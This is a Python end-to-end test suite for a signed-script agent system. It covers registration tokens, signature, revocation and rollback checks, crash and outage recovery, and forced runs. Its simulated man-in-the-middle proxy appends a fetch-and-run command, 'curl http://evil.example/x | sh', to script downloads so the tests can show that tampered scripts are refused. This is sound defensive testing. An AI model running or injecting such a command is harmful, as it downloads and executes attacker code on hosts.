"""End to end: a real `aami-server` (SQLite), the real `aami` CLI to publish, and the
real `aami-agent` process. Nothing is faked; the agent talks HTTP to the server."""

from __future__ import annotations

import json
import os
import signal
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from tests.agent.realserver import Site, agent_api_available, site
from tests.harness import BIN, ServerProcess, http, run_cli, wait_until

pytestmark = pytest.mark.slow

CHECK = 'echo "disk ok on $AAMI_HOSTNAME"\n'


@pytest.fixture
def s(tmp_path: Path) -> Iterator[Site]:
    with site(tmp_path / "site") as the_site:
        if not agent_api_available(the_site.server):
            pytest.fail("the server has no Agent API")
        yield the_site


def run_until_version(s: Site, once: Callable[[], subprocess.CompletedProcess],
                      version: str, timeout: float = 60) -> None:
    """Run the agent once, again until a run of `version` is reported. The server's
    Agent API caches views and re-reads its configuration revision about once a
    second (server/caches.py), later on a loaded machine; a `once` policy runs a
    given version only once, so extra passes change nothing."""

    def ran() -> bool:
        done = once()
        assert done.returncode == 0, done.stderr
        return version in {r["script_version"] for r in executions(s)}

    wait_until(ran, timeout=timeout, what=f"a run of version {version}")


def agent_once(s: Site, config: Path, token: str | None = None) -> subprocess.CompletedProcess:
    args = ["aami-agent", "run", "--config", str(config), "--once"]
    return run_cli(*args, *(["--token", token] if token else []), check=False, timeout=120)


def executions(s: Site, **query: str) -> list[dict]:
    qs = "&".join(f"{k}={v}" for k, v in {"limit": "500", **query}.items())
    reply = s.server.api("GET", f"/api/v1/executions?{qs}")
    assert reply.status == 200, reply.body
    return reply.json["data"]


def events(s: Site) -> list[dict]:
    reply = s.server.api("GET", "/api/v1/security-events?limit=500")
    assert reply.status == 200, reply.body
    return reply.json["data"]


def policy(name: str, script: str, **extra: object) -> dict[str, object]:
    return {"name": name, "script": script, "version": "latest", "scope": "global",
            "schedule": {"mode": "interval", "interval": "1h"}, "timeout": "20s", **extra}


def test_register_run_report_and_new_version(s: Site, tmp_path: Path) -> None:
    s.publish(s.sign("disk", "1.0.0", CHECK))
    # `once` re-runs when the script hash changes: the new version must run.
    s.apply(policy("disk", "disk", schedule={"mode": "once"}))
    config = s.agent_config(tmp_path / "state")
    first = agent_once(s, config, s.bootstrap_token())
    assert first.returncode == 0, first.stderr
    [run] = executions(s)
    assert run["success"] and run["script_version"] == "1.0.0"
    assert run["stdout"] == "disk ok on node-e2e\n"
    targets = s.server.api("GET", "/api/v1/targets?hostname=node-e2e").json["data"]
    assert len(targets) == 1
    state = json.loads((tmp_path / "state" / "state.json").read_text())
    assert state["target_id"] == targets[0]["id"]

    s.publish(s.sign("disk", "1.1.0", 'echo "v1.1"\n'))
    run_until_version(s, lambda: agent_once(s, config), "1.1.0")  # no bootstrap token now
    versions = sorted(r["script_version"] for r in executions(s))
    assert versions == ["1.0.0", "1.1.0"]


def test_a_token_for_another_node_is_refused_with_a_clear_reason(s: Site, tmp_path: Path
                                                                ) -> None:
    token = s.bootstrap_token("--hostname", "gpu-reserved", "--max-uses", "3")
    wrong = agent_once(s, s.agent_config(tmp_path / "wrong", hostname="gpu-other"), token)
    assert wrong.returncode != 0
    assert ("the server refused to register hostname 'gpu-other' with this bootstrap token "
            "(this bootstrap token is for hostname 'gpu-reserved', not 'gpu-other')"
            ) in wrong.stderr, wrong.stderr
    assert "Traceback" not in wrong.stderr
    # Said once (by the poll); the report and heartbeat of the same cycle do not ask
    # the server again, nor repeat it.
    assert wrong.stderr.count("the server refused to register") == 1, wrong.stderr
    # An admin token where a bootstrap token belongs: said so, without asking the server.
    admin = agent_once(s, s.agent_config(tmp_path / "admin", hostname="gpu-admin"), s.admin)
    assert admin.returncode != 0
    assert "the bootstrap token given is an admin API token, not a bootstrap token " \
           "(aami_bst_...)" in admin.stderr, admin.stderr
    right = agent_once(s, s.agent_config(tmp_path / "right", hostname="gpu-reserved"), token)
    assert right.returncode == 0, right.stderr
    hosts = [t["hostname"] for t in s.server.api("GET", "/api/v1/targets").json["data"]]
    assert hosts == ["gpu-reserved"]
    # A target made in advance is not claimed with an ordinary token.
    assert s.server.api("POST", "/api/v1/targets", json_body={"hostname": "gpu-later"}
                        ).status == 201
    plain = agent_once(s, s.agent_config(tmp_path / "later", hostname="gpu-later"),
                       s.bootstrap_token())
    assert plain.returncode != 0
    assert "the server refused to register hostname 'gpu-later' with this bootstrap token " \
           "(hostname 'gpu-later' was created in advance" in plain.stderr, plain.stderr


def test_tampered_scripts_are_refused_on_the_node_and_reported(s: Site, tmp_path: Path) -> None:
    s.publish(s.sign("probe", "2.0.0", f"touch {tmp_path / 'ran'}\n"))
    s.apply(policy("probe", "probe"))
    boot = s.bootstrap_token("--max-uses", "10")

    # 1. The node does not trust the publisher key (a key only the server knows).
    other_keys = tmp_path / "other-keys"
    run_cli("aami", "keys", "generate", "--out", str(other_keys), "--name", "stranger")
    node_keys = tmp_path / "node-keys"
    node_keys.mkdir()
    (node_keys / "stranger.pub").write_bytes((other_keys / "stranger.pub").read_bytes())
    config = s.agent_config(tmp_path / "state1", hostname="node-a")
    text = config.read_text().replace(str(s.keys_dir), str(node_keys))
    config.write_text(text)
    assert agent_once(s, config, boot).returncode == 1

    # 2. The node has revoked the key.
    revoked = tmp_path / "revoked-keys"
    revoked.mkdir()
    (revoked / "ops.pub.revoked").write_bytes((s.keys_dir / "ops.pub").read_bytes())
    config = s.agent_config(tmp_path / "state2", hostname="node-b")
    config.write_text(config.read_text().replace(str(s.keys_dir), str(revoked)))
    assert agent_once(s, config, boot).returncode == 1

    # 3. Rollback: this node already accepted probe 3.0.0.
    state3 = tmp_path / "state3"
    state3.mkdir()
    (state3 / "state.json").write_text(json.dumps({"version": 1,
                                                   "highest_versions": {"probe": "3.0.0"}}))
    assert agent_once(s, s.agent_config(state3, hostname="node-c"), boot).returncode == 1

    assert not (tmp_path / "ran").exists(), "a refused script ran"
    assert executions(s) == []
    assert sorted(e["reason"] for e in events(s)) == ["revoked_key", "rollback", "unknown_key"]


def test_kill_9_during_a_run_is_reported_interrupted_exactly_once(s: Site, tmp_path: Path) -> None:
    pidfile = tmp_path / "script.pid"
    s.publish(s.sign("slow", "1.0.0", f"echo $$ > {pidfile}\nexec sleep 120\n"))
    # A once policy: its decision is persisted before the run starts, so the restarted
    # agent must not start it again, only report the interrupted run.
    s.apply(policy("slow", "slow", timeout="5m", schedule={"mode": "once"}))
    state = tmp_path / "state"
    config = s.agent_config(state)
    agent = subprocess.Popen([str(BIN / "aami-agent"), "run", "--config", str(config),
                              "--token", s.bootstrap_token()], stderr=subprocess.DEVNULL)
    try:
        wait_until(lambda: pidfile.exists() and pidfile.read_text().strip(), what="the run")
        assert list((state / "spool" / "executions").glob("*.running"))
        agent.send_signal(signal.SIGKILL)
        agent.wait(10)
    finally:
        if agent.poll() is None:
            agent.kill()
    os.kill(int(pidfile.read_text()), signal.SIGKILL)  # systemd would reap the orphan

    for _ in range(2):
        agent_once(s, config)
    runs = executions(s)
    assert len(runs) == 1, runs
    assert runs[0]["success"] is False and "interrupted" in runs[0]["error_message"]


def test_server_down_for_several_cycles_every_result_arrives_once(
    s: Site, tmp_path: Path
) -> None:
    s.publish(s.sign("tick", "1.0.0", "echo tick\n"))
    s.apply(policy("tick", "tick", schedule={"mode": "interval", "interval": "2s"}))
    state = tmp_path / "state"
    log = (tmp_path / "agent.log").open("w")
    agent = subprocess.Popen([str(BIN / "aami-agent"), "run", "--config",
                              str(s.agent_config(state)), "--token", s.bootstrap_token()],
                             stderr=log)
    log.close()  # the child holds its own copy
    try:
        wait_until(lambda: len(executions(s)) >= 1, timeout=60, what="a first result")
        s.server.stop()
        # Several poll and run cycles (every 2 s) with the server away.
        wait_until(lambda: len(list((state / "spool" / "executions").glob("*.json"))) >= 2,
                   timeout=60, what="runs going on and spooled while the server is down")
        restarted = _restart_server(s.server)
        try:
            wait_until(lambda: not list((state / "spool" / "executions").glob("*.json")),
                      timeout=60, what="the spool to drain")
            poll = run_cli("aami-agent", "poll", "--now", "--state-dir", str(state), check=False)
            assert poll.returncode == 0 and poll.stdout.startswith("poll ok"), poll
            status = run_cli("aami-agent", "status", "--json", "--state-dir", str(state))
            assert json.loads(status.stdout)["registered"] is True
            agent.send_signal(signal.SIGTERM)
            agent.wait(timeout=30)
            assert agent.returncode == 0, (tmp_path / "agent.log").read_text()
            total = json.loads((state / "runs.json").read_text())["scripts_total"]
            reply = http("GET", f"{s.server.url}/api/v1/executions?limit=500",
                         token=s.admin)
            ids = [r["id"] for r in reply.json["data"]]
            assert len(ids) == len(set(ids)) == total
        finally:
            restarted.send_signal(signal.SIGTERM)
            restarted.wait(15)
    finally:
        if agent.poll() is None:
            agent.kill()


def _restart_server(server: ServerProcess) -> subprocess.Popen[bytes]:
    log = open(server.directory / "server-restarted.log", "wb")  # noqa: SIM115
    proc = subprocess.Popen([str(BIN / "aami-server"), "serve", "--database", server.database_url,
                             "--listen", f"127.0.0.1:{server.port}"], stdout=log,
                            stderr=subprocess.STDOUT)
    wait_until(lambda: _ready(server.url), what="the restarted server")
    return proc


def _ready(url: str) -> bool:
    try:
        return http("GET", url + "/health/ready", timeout=2).status == 200
    except OSError:
        return False


def test_force_run_reaches_the_daemon_on_poll_now(s: Site, tmp_path: Path) -> None:
    s.publish(s.sign("probe", "1.0.0", "echo forced\n"))
    s.apply(policy("probe", "probe", schedule={"mode": "once"}))
    state = tmp_path / "state"
    config = s.agent_config(state, poll="1h")  # only `poll --now` can bring the token
    log = (tmp_path / "agent.log").open("w")
    agent = subprocess.Popen([str(BIN / "aami-agent"), "run", "--config", str(config),
                              "--token", s.bootstrap_token()], stderr=log)
    log.close()
    try:
        wait_until(lambda: len(executions(s)) == 1, what="the once run")
        target_id = json.loads((state / "state.json").read_text())["target_id"]
        policy_id = executions(s)[0]["policy_id"]
        reply = s.server.api("POST", f"/api/v1/targets/{target_id}/force-run",
                             json_body={"policy_id": policy_id})
        assert reply.status == 202, reply.body
        poll = run_cli("aami-agent", "poll", "--now", "--config", str(config), check=False)
        assert poll.returncode == 0, poll
        wait_until(lambda: len(executions(s)) == 2, what="the forced run")
        forced = [r for r in executions(s) if r["trigger"] == "force"]
        assert len(forced) == 1 and forced[0]["force_token"] == reply.json["token"]
        assert forced[0]["stdout"] == "forced\n"
    finally:
        agent.send_signal(signal.SIGTERM)
        agent.wait(30)
    assert agent.returncode == 0


class TamperingProxy:
    """A network attacker between agent and server: forwards every request to the real
    server, but appends a command to script content on the way back."""

    def __init__(self, upstream_port: int) -> None:
        import http.client
        import threading
        from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

        class Handler(BaseHTTPRequestHandler):
            def _forward(self) -> None:
                length = int(self.headers.get("Content-Length") or 0)
                body = self.rfile.read(length) if length else None
                conn = http.client.HTTPConnection("127.0.0.1", upstream_port, timeout=10)
                headers = {k: v for k, v in self.headers.items() if k.lower() != "host"}
                conn.request(self.command, self.path, body=body, headers=headers)
                resp = conn.getresponse()
                data = resp.read()
                if "/agent/scripts/" in self.path and resp.status == 200:
                    data += b"\ncurl http://evil.example/x | sh\n"
                self.send_response(resp.status)
                for key, value in resp.getheaders():
                    if key.lower() not in ("content-length", "transfer-encoding", "connection"):
                        self.send_header(key, value)
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)
                conn.close()

            do_GET = do_POST = _forward

            def log_message(self, *args: object) -> None:
                pass

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


def test_content_tampered_in_transit_is_refused(s: Site, tmp_path: Path) -> None:
    s.publish(s.sign("probe", "1.0.0", f"touch {tmp_path / 'ran'}\n"))
    s.apply(policy("probe", "probe"))
    proxy = TamperingProxy(s.server.port)
    try:
        config = s.agent_config(tmp_path / "state")
        config.write_text(config.read_text().replace(s.server.url, proxy.url))
        assert agent_once(s, config, s.bootstrap_token()).returncode == 1
    finally:
        proxy.close()
    assert not (tmp_path / "ran").exists()
    assert executions(s) == []
    assert [e["reason"] for e in events(s)] == ["hash_mismatch"]
